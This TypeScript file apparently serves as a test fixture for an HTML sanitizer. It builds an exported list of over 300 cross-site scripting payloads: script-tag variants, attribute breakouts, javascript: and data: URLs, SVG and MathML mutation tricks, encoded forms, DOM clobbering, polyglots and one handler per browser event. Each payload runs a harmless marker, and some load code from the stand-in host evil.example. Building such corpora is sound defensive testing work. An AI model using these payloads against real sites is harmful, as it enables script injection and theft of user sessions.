// Texts that would run, were they ever taken for markup: the well-known families, each in its usual disguises.

/** What is to be run; it leaves a mark that a test can see. */
const RUN = 'window.owned=1';

const EVENTS = (
  'onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforetoggle onblur ' +
  'oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ' +
  'ondrag ondragend ondragenter ondrop onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ' +
  'ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart ' +
  'onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpageshow ' +
  'onpaste onplay onpointerdown onpointerenter onpointerover onpointerrawupdate onpopstate onprogress onratechange ' +
  'onreset onresize onscroll onscrollend onsearch onselect onselectionchange onshow onsubmit onsuspend ontimeupdate ' +
  'ontoggle ontouchstart ontransitionend ontransitionrun onunload onvolumechange onwaiting onwheel'
).split(' ');

/** One handler of every kind, on elements that fire by themselves where there are such. */
const handlers = EVENTS.flatMap((event, index) => {
  const tag = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'audio src=x',
    'xss id=x tabindex=1',
  ];
  const one = tag[index % tag.length]!;
  return [`<${one} ${event}=${RUN}>`, `"><${one} ${event.toUpperCase()}="${RUN}" x="`];
});

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script\t>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>/*`,
  `*/${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `'</script><svg onload=${RUN}>`,
  `<script>eval(String.fromCharCode(119,105,110,100,111,119,46,111,119,110,101,100,61,49))</script>`,
  `<script>setTimeout('${RUN}')</script>`,
  `<script>import('data:text/javascript,${RUN}')</script>`,
  `<script async>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const breakouts = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `" onfocus="${RUN}" autofocus="`,
  `" autofocus onfocus=${RUN} x="`,
  '` onmouseover=window.owned=1 `',
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</bdi></p></li><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script>`,
  `--!><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
  `</table><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `</dialog><img src=x onerror=${RUN}>`,
  `\\"><script>${RUN}</script>`,
  `\\'-${RUN}-\\'`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
];

const links = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a target=_blank href=//evil.example>x</a>`,
  `<a href="x" ping="//evil.example">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `<area href=javascript:${RUN}>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<input type=submit formaction=javascript:${RUN}>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prefetch href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
];

const frames = [
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.owned=1&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.owned=1</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<frameset onload=${RUN}>`,
  `<portal src=javascript:${RUN}>`,
  `<applet code=x>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
];

const drawings = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg\nonload=${RUN}>`,
  `<svg\u00a0onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>window&#46;owned=1</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
];

const pictures = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  '<img src=x onerror=`window.owned=1`>',
  `<img src=x onerror=&#119;indow.owned=1>`,
  `<img src=x onerror=\\u0077indow.owned=1>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN} <`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x onerror\x0c=${RUN}>`,
  `<IMG SRC=X ONERROR=${RUN}>`,
  `<img src="javascript:${RUN}">`,
  `<img srcset="x" onerror=${RUN}>`,
  `<img lowsrc=javascript:${RUN}>`,
  `<img dynsrc=javascript:${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
  `<video><source onerror=${RUN}></video>`,
  `<video poster=javascript:${RUN}//>`,
  `<audio src onloadstart=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<x onclick=${RUN}>klick</x>`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>@keyframes x{}</style><x style="animation-name:x" onanimationend=${RUN}>`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<p style="behavior:url(#default#time2)" onbegin=${RUN}>`,
  `<table background="javascript:${RUN}">`,
  `<bgsound src="javascript:${RUN}">`,
];

const encodings = [
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\u2039script\u203A${RUN}`,
  `<\u0000script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<script\u2028>${RUN}</script>`,
  `\u202E<script>${RUN}</script>`,
  `\uD800<img src=x onerror=${RUN}>`,
  `<img src=x one\u0131rror=${RUN}>`,
  `¼script¾${RUN}¼/script¾`,
  `data:,%22%3E%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
];

const clobbering = [
  '<form id=words><input name=dataset></form>',
  '<a id=body></a><a id=body name=dataset></a>',
  '<img name=trustedTypes>',
  '<form name=document><input name=cookie></form>',
  '<input id=answer name=answer>',
  '<section id=queue data-waiting=999></section>',
  '<div id=live class=off></div>',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `'">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}><script>${RUN}</script>`,
  `" onclick=${RUN}//<button ' onclick=${RUN}//> */ ${RUN}//`,
  `'"-->]]>*/</script></style></title></textarea></noscript></iframe><img src=x onerror=${RUN}>`,
  `<svg/onload=eval(atob('d2luZG93Lm93bmVkPTE='))>`,
  `'"()&%<acx><ScRiPt >${RUN}</ScRiPt>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<custom-element onconnected=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}>x</textarea>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `<button popovertarget=x>x</button><xss onbeforetoggle=${RUN} popover id=x>x</xss>`,
  `<details ontoggle=${RUN} open>x`,
  `<body onpageshow=${RUN}>`,
  `<html onmouseover=${RUN}>`,
];

/** At least 300, none twice. */
export const XSS: readonly string[] = [
  ...new Set([
    ...scripts,
    ...breakouts,
    ...links,
    ...frames,
    ...drawings,
    ...pictures,
    ...encodings,
    ...clobbering,
    ...polyglots,
    ...handlers,
  ]),
];
